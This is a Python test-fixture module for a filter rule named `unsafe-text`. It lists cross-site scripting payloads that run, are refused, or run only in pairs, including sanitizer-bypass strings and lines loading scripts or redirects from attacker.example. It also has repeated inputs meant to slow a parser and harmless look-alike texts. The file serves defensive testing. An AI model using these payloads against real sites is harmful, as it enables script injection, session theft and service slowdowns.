"""Texts that the rule `unsafe-text` refuses or accepts, named after what makes them run or not.

The larger collection is brs-kb's (MIT), one of the tests' packages. This one adds what brs-kb has little or nothing of:
ways that need a page to insert them, ways around parsers and sanitizers, and texts that only look like tags.
"""

import importlib
import pkgutil
import warnings
from functools import cache
from typing import Any

# Each of these runs its script in a Chromium of 2026, which proves that the browser tests can detect a running script.
RUNNING = {
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler without spaces": "<svg/onload=alert(1)>",
    "a handler in upper case": "<IMG SRC=x OnErRoR=alert(1)>",
    "a handler after stray quotes": '<img """ onerror=alert(1)>',
    "a handler after an equals sign": "<img src=x = onerror=alert(1)>",
    "a handler of an unknown element": "<anything tabindex=0 onfocus=alert(1)>",
    "a handler with escaped code": "<img src=x onerror='&#97;lert(1)'>",
    "a handler in a select": "<select><img src=x onerror=alert(1)></select>",
    "a handler moved out of a table": "<table><tr><img src=x onerror=alert(1)>",
    "a handler in foreign content": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "a handler in a foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "a handler of an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "a handler after a comment": "<!--> <img src=x onerror=alert(1)> -->",
    "a handler after a bogus comment": "</ a><img src=x onerror=alert(1)>",
    "a handler after a processing instruction": "<? > <img src=x onerror=alert(1)> ?>",
    "a handler after a title": "<title><b title='</title><img src=x onerror=alert(1)>'>",
    "a handler in a style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "a handler after a bogus CDATA section": "<![CDATA[>]]><img src=x onerror=alert(1)>",
    "a tag that the page closes": "<img src=x onerror=alert(1) ",
    "a URL that the page ends": "<a href=javascript:alert(1) x",
    "a link": "<a href=javascript:alert(1)>x</a>",
    "a link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "a link with a line break": '<a href="javascript\n:alert(1)">x</a>',
    "a link with a named tab": "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "a link with a named line break": "<a href=java&NewLine;script:alert(1)>x</a>",
    "a link after control characters": "<a href='&#1; &#31;javascript:alert(1)'>x</a>",
    "a link in decimal references": "<a href=&#106&#97&#118;ascript:alert(1)>x</a>",
    "a link in padded hexadecimal references": "<a href='&#x0000006a;&#X61;vascript:alert(1)'>x</a>",
    "a link in upper case": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "a link in svg": "<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "an xlink in svg": "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "an area": "<img usemap=#m src=x><map name=m><area href=javascript:alert(1) shape=default></map>",
    "a form": "<form action=javascript:alert(1)><button>x</button></form>",
    "a button": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "an input": "<form><input type=submit formaction=javascript:alert(1)></form>",
    "a frame": "<iframe src=javascript:alert(1)></iframe>",
    "a document in an attribute": "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "an escaped document in an attribute": "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    "a document in a URL": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "an escaped document in a URL": "<iframe src='d&#97;ta:text/htm&#108;,&lt;img onerror=alert(1)>'></iframe>",
    "a picture that is a document": (
        "<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\">"
    ),
    "an embedded document": "<embed src='data:text/html,<script>alert(1)</script>'>",
    "an object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "an animated link": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) dur=9s /><text y=20>x</text></a></svg>"
    ),
    "a link by a set element": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "past a sanitizer, noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "past a sanitizer, math": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>"
    ),
    "past a sanitizer, svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
}
# Neither text of a pair runs anything alone; in a Chromium of 2026, they run together if a page inserts both, each in
# an element of its own, with or without quotes around them. The first one is refused.
RUNNING_TOGETHER = {
    "an open value": ["<img alt='", "' src=1 onerror=alert(1)>"],
    "an open value in double quotes": ['<img alt="', '" src=1 onerror=alert(1)>'],
    "an open value of any element": ["price<max x='", "' tabindex=0 onfocus=alert(1)>"],
    "an open value after others": ['a <b c=1 d = "e" f=\n\'g > h', "' onclick=alert(1)>"],
    "a value that the page's quotes open": ["<img alt=", '" src=1 onerror=alert(1)>'],
}
# These run nothing when inserted unchanged, but they are one step away from it.
REFUSED = {
    "a script": "<script>alert(1)</script>",
    "a script from elsewhere": "<script src=//attacker.example/x.js></script>",
    "a script in svg": "<svg><script>alert(1)</script></svg>",
    "a script in a template": "<template><script>alert(1)</script></template>",
    "a script that does not end": "some text <script",
    "a tag in a bogus CDATA section": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "an attribute that does not end": "<img src=x onerror='alert(1)",
    "a URL that does not end": '<a href="javascript:alert(1)',
    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "an escaped refresh": "<meta content='0;url=//attacker.example' http-equiv='&#82;efresh'>",
    "a base": "<base href=//attacker.example/>",
    "a base that is a script": "<base href='javascript:/a/-alert(1)///////'>",
    "a body": "<body onload=alert(1)>",
    "another script language": "<a href='vbscript:msgbox(1)'>x</a>",
    "the URL of an image": "<img src=javascript:alert(1)>",
    "a second value of an animation": "<svg><animate attributeName=href values='#;javascript:alert(1)'></svg>",
    "a handler in a comment": "<!-- <img src=x onerror=alert(1)> -->",
    "a handler in an attribute": "<p title='<img src=x onerror=alert(1)>'>",
    "a handler in a text area": "<textarea><img src=x onerror=alert(1)></textarea>",
    "past a sanitizer, escaped in a style": "<math><style>&lt;img src=x onerror=alert(1)&gt;</style></math>",
    "past a sanitizer, escaped in an attribute": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "a document with an obfuscated type": "<iframe src='data:TEXT/ht\nml,x'>",
    "a tag that does not end": "<img src=1 ",
    "a tag that does not end after text": "see <a href=/x",
    "a value that does not end": "<p>a</p><b title='c > d",
    "a value that does not begin": "<img alt = ",
    "a value that does not end within another": "<p title='<img alt=\"'>",
}
UNSAFE = RUNNING | REFUSED | {name: first for name, (first, _) in RUNNING_TOGETHER.items()}

# Parts that make tags within tags when they are repeated: a reader that starts over at each tag needs quadratic time.
TANGLED = {
    "names": "<a",
    "attributes": "<a ",
    "values": "<a x=",
    "slashes": "<a/x=",
    "quotes": "<a b='",
    "other quotes": "<a x='\"",
    "lists": "<a values=;",
    "references": "<a href=&#0",
    "quoted references": '<a href="&Tab;',
    "spaces": "<a" + " " * 50 + "=",
    "escaped": "<svg>&lt;a href=",
}


def tangled(name: str, size: int = 262_144) -> str:
    """Return a text of at least this many characters, by default as many as a config may have."""
    # The last word is one that makes the service read all tags, instead of searching for such words only.
    return TANGLED[name] * (size // len(TANGLED[name]) + 1) + "= srcdoc"


HARMLESS = [
    "",
    "plain text",
    "a < b",
    "a<b",
    "a<b && c>d",
    "datum.a<datum.b && x>y",
    "datum['a']<datum.b || datum.only = 1",
    "price<base && qty>0",
    "x<y; z = 3",
    "for (let i=0;i<n;i++) { sum += i }",
    "if (a<b) click = c",
    "price<max_price AND onsale=1",
    'rate(x[5m]) <bool y{env="a", oncall="b"}',
    "a<b and onion=2",
    "f.dep <f.sched and ontime = 1",
    "a<b and c = 'd'",
    "late = t<s\nopen = 1",
    "SELECT * FROM t WHERE a<b AND name = 'O''Brien' AND note = \"it's\"",
    "price<base AND qty=1",
    "now<time or x = '<' or y = '>'",
    "=IF(A1<B1,\"x=\",'y')",
    "datum.a<datum.b ? 'x=' : 'y'",
    "'<a href=\"' + datum.url + '\">' + datum.name + '</a>'",
    "<LOD (n=3)",
    "<LOD n=3",
    "<b onsomethingnew=1>",
    "onclick = a<b",
    "a <= b, c => d, e <> f, g << 2, h >>> 1",
    "1<2>3",
    "<3",
    "I <3 dashboards </3",
    "<-- see left",
    "<>",
    "< script >alert(1)",
    "List<String>",
    "Map<String, List<Script2>>",
    "std::vector<int>& v = x;",
    "Promise<Response | null>",
    "template <typename T = int> class C",
    "<T extends object = {}>(value: T) => value",
    "Ada Lovelace <ada@example.com>",
    "<a@b.c>",
    "<https://example.com/?a=1&b=2>",
    "[a link](https://example.com)",
    "[a link](javascript:alert(1))",
    "# Title\n\n> quoted\n\n- *one*\n- `a<b`\n\n```html\n<p class=x>\n```\n",
    "javascript:alert(1)",
    "onerror=alert(1)",
    "onclick, onload = handlers",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>bold</b>",
    "<B>bold</B> and <i>more</i><br/>",
    '<p class="note" style="color: red">text</p>',
    "<p title='javascript: the good parts'>a book</p>",
    '<a href="https://example.com/?u=javascript:alert(1)" target=_blank rel=noopener>see</a>',
    "<a href=/relative>here</a> <a href=#top>top</a> <a href='mailto:a@b.c'>mail</a>",
    "<a href='data:text/csv;charset=utf-8,a%2Cb' download=t.csv>table</a>",
    "<img src=https://example.com/a.png alt='onerror=alert(1)'>",
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "<img src='data:image/svg+xml,%3Csvg/%3E' alt=icon>",
    "<svg viewBox='0 0 9 9'><path d='M0 0L9 9'/><circle r=3 /></svg>",
    "<math><mi>x</mi><mo>=</mo><mn>1</mn></math>",
    "<iframe src=https://www.example.com/embed/1 title=video></iframe>",
    "<details open><summary>more</summary>text</details>",
    "<table border=1><tr><td colspan=2>cell</td></tr></table>",
    "<input type=checkbox checked disabled> done",
    "<button onclick>does nothing</button>",
    "<button onclick=''>does nothing</button>",
    "<button on:click={save}>a component's</button>",
    "<item once='true' online=1 only=x one=1>XML</item>",
    "<?xml version='1.0'?><order id='1'><onhand>5</onhand><line sku=\"a\" qty='2'/></order>",
    "<!-- a comment --><!DOCTYPE html><![CDATA[ x = 1 ]]>",
    "<meta charset=utf-8><meta http-equiv='Content-Type' content='text/html'>",
    "<base> and <base target=_top>",
    "</script></svg></math onload=1>",
    "<scripts src=x>",
    "<script-runner name=x>",
    "<prescript>",
    "＜script＞ｏｎｅｒｒｏｒ=1",  # noqa: RUF001 - the fullwidth letters are intentional
    "😀 <😀 onerror=1>",
    "é — 売上 🎉 </b>",
    "\t<b\n>",
    "SELECT * FROM t WHERE a<b AND c = 'd' OR e>f",
    "{{ value }} <%= value %> ${value}",
    "C:\\<dir>\\file = x",
]


@cache
def collection() -> list[str]:
    """Return the texts of brs-kb's payloads, a third of which have no tag at all."""
    found: set[str] = set()
    with warnings.catch_warnings(action="ignore", category=DeprecationWarning):
        payloads = importlib.import_module("brs_kb.payloads")
        for module in pkgutil.walk_packages(payloads.__path__, "brs_kb.payloads."):
            for value in vars(importlib.import_module(module.name)).values():
                found.update(_texts(value))
    return sorted(found)


def _texts(value: Any) -> set[str]:
    if type(value).__name__ == "PayloadEntry":
        return {value.payload}
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list | tuple) else ()
    return {text for each in inner for text in _texts(each)}
